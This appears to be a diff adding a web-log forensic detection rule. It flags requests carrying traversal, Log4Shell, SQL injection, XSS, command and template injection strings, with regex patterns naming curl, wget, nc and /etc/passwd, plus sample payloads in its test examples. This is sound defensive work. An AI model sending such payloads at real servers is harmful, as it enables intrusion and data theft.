@@ -1,0 +1,137 @@
+"""Rule: requests with attack strings, and whether they were stopped or served."""
+
+import polars as pl
+
+from forensic.rule import Example, Frames, Rule, gather, hop_words, plural, report
+
+#: Encoded bytes that matter to the patterns; decoded once, as a server does.
+_DECODED = {
+    "%2e": ".",
+    "%2f": "/",
+    "%5c": "\\",
+    "%24": "$",
+    "%7b": "{",
+    "%7d": "}",
+    "%3a": ":",
+    "%3c": "<",
+    "%3e": ">",
+    "%27": "'",
+    "%22": '"',
+    "%28": "(",
+    "%29": ")",
+    "%3d": "=",
+    "%2c": ",",
+    "%20": " ",
+    "+": " ",
+}
+#: Families that leave no honest reading once decoded.
+_FAMILIES = {
+    "path traversal": r"(?:^|[/\\=])(?:\.\.[/\\]){2,}"
+    r"|/etc/(?:passwd|shadow)\b|\bwin\.ini\b|/proc/self/environ",
+    "Log4Shell": r"\$\{(?:jndi|\$\{|[a-z]+:-)",
+    "SQL injection": r"\bunion (?:all )?select\b|' or '?\d+'?='?\d"
+    r"|\b(?:sleep|benchmark|waitfor delay)\s*[\('].*\b|\binformation_schema\b",
+    "cross-site scripting": r"<script[ >/]|javascript:[a-z]+\(|\bon(?:error|load)=",
+    "command injection": r"[;|&`] ?(?:cat|wget|curl|nc|bash|sh|id|whoami) ?[/\-$]"
+    r"|\$\((?:id|curl|wget)",
+    "template injection": r"\{\{ ?\d+ ?\* ?\d+ ?\}\}|\$\{t\(java",
+}
+
+
+def _family() -> pl.Expr:
+    """Name of the first family that the decoded request belongs to."""
+    target = pl.concat_str(
+        pl.col("path").fill_null(""), pl.col("query").fill_null(""), separator="?"
+    )
+    headers = pl.col("user_agent").fill_null("")
+    asked = pl.concat_str(target, headers, separator="\n").str.to_lowercase()
+    plain = asked.str.replace_many(list(_DECODED), list(_DECODED.values()))
+    found = pl.lit(None, pl.String)
+    for name, pattern in reversed(_FAMILIES.items()):
+        found = pl.when(plain.str.contains(pattern)).then(pl.lit(name)).otherwise(found)
+    return found
+
+
+def _query(frames: Frames) -> pl.LazyFrame:
+    """Families by hop, those that a server answered with success first."""
+    requests = frames.events.filter(
+        pl.col("hop").cast(pl.String).is_in(["load_balancer", "web_server"]),
+        pl.col("status").is_not_null(),
+        pl.col("path").is_not_null(),
+    )
+    # Most requests have none of these bytes: only the rest is decoded and matched.
+    odd = (
+        r"(?i)%2|%3|%5c|%7b|\.\.[/\\]|[<'{$;|`]|/etc/|win\.ini|javascript:|union|sleep"
+    )
+    text = pl.concat_str(["path", "query", "user_agent"], ignore_nulls=True)
+    attacks = (
+        requests.filter(text.str.contains(odd))
+        .with_columns(family=_family(), served=pl.col("status").is_between(200, 299))
+        .filter(pl.col("family").is_not_null())
+    )
+    keys = ["hop", "family", "served"]
+    return report(
+        gather(frames, attacks, keys, tops=["path", "client_ip", "status"]),
+        summary=pl.format(
+            "{} with the strings of {} {} at the {}: path {}; client {}; status {}",
+            plural(pl.col("count"), "request"),
+            "family",
+            pl.when("served")
+            .then(pl.lit("got an answer of success"))
+            .otherwise(pl.lit("were refused or failed")),
+            hop_words(),
+            "path_list",
+            "client_ip_list",
+            "status_list",
+        ),
+        level=pl.when("served")
+        .then(pl.lit("medium"))
+        .otherwise(pl.lit("informational")),
+        confidence=pl.when("served").then(pl.lit("weak")).otherwise(pl.lit("strong")),
+        ask_for=["the body of the answers that succeeded, or the application's log"],
+    )
+
+
+def _line(status: int = 200, **columns: object) -> dict[str, object]:
+    return {"hop": "web_server", "path": "/", "status": status} | columns
+
+
+RULE = Rule(
+    id="attack-reached",
+    title="Requests with attack strings",
+    level="medium",
+    description="Decoded once and told apart by outcome: a success answer may mean "
+    "that the attack worked, or that the page ignores what it does not know.",
+    falsepositives=[
+        "A page that answers 200 whatever is asked",
+        "Text about attacks in a search field",
+    ],
+    references=["https://owasp.org/www-project-top-ten/"],
+    tags=["security"],
+    needs=["web_server|load_balancer"],
+    query=_query,
+    positives=[
+        Example(
+            title="encoded traversal",
+            events=[_line(path="/static/..%2f..%2f..%2fetc/passwd")],
+        ),
+        Example(title="union select", events=[_line(404, query="id=1+UNION+SELECT+1")]),
+        Example(title="log4shell", events=[_line(user_agent="${jndi:ldap://x/a}")]),
+        Example(title="script", events=[_line(query="q=%3Cscript%3Ealert(1)")]),
+    ],
+    negatives=[
+        Example(title="well known", events=[_line(path="/.well-known/acme-challenge")]),
+        Example(
+            title="an identifier with such digits",
+            events=[_line(path="/items/52e0ec80-12e0-a2f2-2e2e-2fa492f00000")],
+        ),
+        Example(
+            title="ordinary queries",
+            events=[
+                _line(query="q=it%27s+a+union+of+states&sort=select"),
+                _line(path="/a/../b", query="next=%2Fhome%3Fx%3D1"),
+                _line(query="pattern=%7B%22a%22%3A1%7D", path="/sleep-tracker"),
+            ],
+        ),
+    ],
+)
